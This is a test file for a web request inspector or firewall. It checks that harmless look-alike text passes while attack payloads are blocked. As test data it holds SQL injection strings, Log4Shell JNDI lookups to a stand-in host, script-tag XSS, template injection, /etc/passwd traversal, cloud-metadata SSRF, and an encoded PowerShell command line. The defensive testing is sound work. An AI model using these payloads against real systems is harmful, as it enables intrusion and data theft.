import { describe, expect, test } from 'vitest';
import { policyOf } from '../../../../benchmarks/traffic/policies.ts';
import { type InspectedRequest, inspect } from '../index.ts';
import { encodeLatin1, post, query } from '../testing/requests.ts';

const policy = policyOf('medium');
const decided = (one: InspectedRequest) => inspect(policy, one).decision;
const form = (text: string) => post('application/x-www-form-urlencoded', `q=${encodeLatin1(text)}`);
const json = (body: unknown) => post('application/json', JSON.stringify(body));

describe('what looks like an attack and tells of something', () => {
  test.each([
    '/etc/passwd permissions',
    'php://input explained',
    'Waitfor delay at the airport: two hours',
    'Waitfor time to come',
    'Update ../etc/config paths, please',
    'Runtime rt = Runtime.getRuntime(); log.info("heap");',
    'rO0ABc-track-42',
    '-1 or 3+3 = six',
    '${jndi} log4shell what is',
    'The answer [=7*7 dollars] is 49',
    'export NAME=value; echo done',
    'at java.base/java.lang.reflect.Method.invoke(Method.java:580)',
    '-o output.txt http://x.example/',
    'merge into one, using glue',
    "file:///C:/help/index.html doesn't open; why",
    'Alter Table Ltd.',
    'I <3 the <script writers> of Hollywood',
    "{% if is_state('sun.sun', 'above_horizon') %}day{% endif %}",
  ])('passes as a value: %s', (text) => {
    expect([decided(query(text)), decided(form(text))]).toEqual(['pass', 'pass']);
  });

  test.each([
    '/etc/passwd',
    '/etc/passwd x',
    'cat /etc/passwd permissions',
    'x=/etc/shadow permissions',
    'php://input',
    'php://filter/resource=x explained',
    '1 waitfor delay "0:0:5"',
    ';waitfor delay @x--',
    ";waitfor/**/time'00:00:01'",
    'cat ../etc/passwd',
    'copy ../../etc/config paths here',
    'Runtime r = Runtime.getRuntime(); r.exec("id");',
    'rO0ABXNyABdq',
    'rO0ABXcEAAAA',
    '-1 OR 2+2-4-1=0+0+0+1',
    '1=CAST((CHR(126)||VERSION()) AS NUMERIC)',
    'cast(string_agg(usename, chr(44)) as int)',
    'id) FROM users UNION SELECT password',
    '{{var this.getTemplateFilter().filter(x)}}',
    '${jndi:ldap://x.example/a}',
    '${jndi${::-:}ldap://x.example/a}',
    'file:///C:/windows/win.ini',
    ';export x=id;$x',
    '; readonly c=id && $c',
    '-o/tmp/x.php http://x.example/s.txt',
    '[=7*7]',
    "'; MERGE INTO users USING dual ON (1=1) WHEN MATCHED THEN UPDATE SET pass='x'--",
    'x;\n}\nssl_engine /proc/12/fd/5;',
    'java.lang.Runtime.getRuntime().exec("id")',
    'at java.base/java.lang.Runtime.getRuntime().exec("id")',
    'file:///etc/passwd does not open',
    '1;alter table users drop column x',
    '1;alter table users--',
    '<script x>alert(1)</script>',
    '<script async>alert(1)',
    '<script foo>eval(name)</script>',
    "{% if ''.constructor.constructor('x')() %}{% endif %}",
    "{% if is_state('x') and cycler.__init__ %}{% endif %}",
    '{% for x in range(9) %}{% endfor %}',
  ])('blocks as a value: %s', (text) => {
    expect([decided(query(text)), decided(form(text))]).toEqual(['block', 'block']);
  });

  const reported = (value: string, path = '/var/www/html/vendor/a/Connection.php') =>
    json({ exception: { values: [{ value, stacktrace: { frames: [{ abs_path: path }] } }] } });

  test.each([
    "SQLSTATE[42000]: error in your SQL syntax; check the manual near 'LIMIT 10' at line 1",
    'no such column: x in "SELECT a FROM t WHERE x = 1 OR y IS NULL"',
  ])('passes what a database told an error tracker: %s', (text) => {
    expect(decided(reported(text))).toBe('pass');
  });

  test.each([
    ['the same as a message', json({ value: "near 'LIMIT 10 UNION SELECT 1,2,3-- " })],
    ['markup in it', reported('<img src=x onerror=alert(1)>')],
    ['a lookup in it', reported('${jndi:ldap://x.example/a}')],
    ['a file besides', json({ abs_path: '/var/www/html/config.php' })],
  ])('blocks %s', (_what, one) => {
    expect(decided(one)).toBe('block');
  });

  test('passes a question of a talk about conditions of SQL, and no statement in it', () => {
    const asked = (content: string) => decided(json({ messages: [{ role: 'user', content }] }));
    expect(asked("What does ' OR '1'='1 do in a login form?")).toBe('pass');
    expect(asked("x' UNION SELECT password FROM users-- ")).toBe('block');
    expect(decided(json({ prompt: "' OR '1'='1" }))).toBe('block');
    expect(decided(json({ messages: [{ role: "' OR '1'='1" }] }))).toBe('block');
  });

  const program = "import subprocess\nsubprocess.run(['ls', '-l'])";
  const page = '<script src="https://x.example/app.js" defer></script>';

  test.each([
    { content: { cells: [{ cell_type: 'code', source: program }] } },
    { cells: [{ source: ['x = 1\n', program] }] },
    { blocks: [{ type: 'code', data: { code: page } }] },
    { lang: 'python3', typed_code: program },
  ])('passes a program where an interface takes programs to show: %j', (body) => {
    expect(decided(json(body))).toBe('pass');
  });

  test.each([
    { code: program },
    { blocks: [{ type: 'raw', data: { html: page } }] },
    { blocks: [{ type: 'code', data: { code: '${jndi:ldap://x.example/a}', text: page } }] },
    { cells: [{ metadata: program }] },
    { cells: [{ source: page, output: page }] },
  ])('blocks it beside: %j', (body) => {
    expect(decided(json(body))).toBe('block');
  });

  const line = 'cmd.exe /c "whoami /all & type C:\\data\\x.txt" | powershell -enc SQBFAFgAIAAoAE4AZQB3AA==';
  test('passes what an agent tells of programs that ran, and the same nowhere else', () => {
    expect(decided(json({ process: { command_line: line, parent: { command_line: line } } }))).toBe('pass');
    expect(decided(json({ process: { args: ['bash', '-c', 'ls /srv | grep db; id'] } }))).toBe('pass');
    expect(decided(json({ winlog: { event_data: { CommandLine: line, ScriptBlockText: line } } }))).toBe(
      'pass',
    );
    expect(decided(json({ process: { name: line } }))).toBe('block');
    expect(decided(json({ event_data: { CommandLine: line } }))).toBe('block');
    expect(decided(json({ process: { command_line: '${jndi:ldap://x.example/a}' } }))).toBe('block');
    expect(decided(json({ process: { command_line: '<script>alert(1)</script>' } }))).toBe('block');
  });

  const picture = (text: string) =>
    post(
      'multipart/form-data; boundary=b',
      `--b\r\nContent-Disposition: form-data; name="f"; filename="a.svg"\r\nContent-Type: image/svg+xml\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${text}</svg>\r\n--b--\r\n`,
    );

  test('a picture fetches pictures, and nothing from inside', () => {
    expect(decided(picture('<image xlink:href="https://cdn.example.com/a.png"/>'))).toBe('pass');
    expect(decided(picture('<image xlink:href="http://169.254.169.254/latest/meta-data/"/>'))).toBe('block');
    expect(decided(picture("<image href='file:///etc/passwd'/>"))).toBe('block');
  });
});
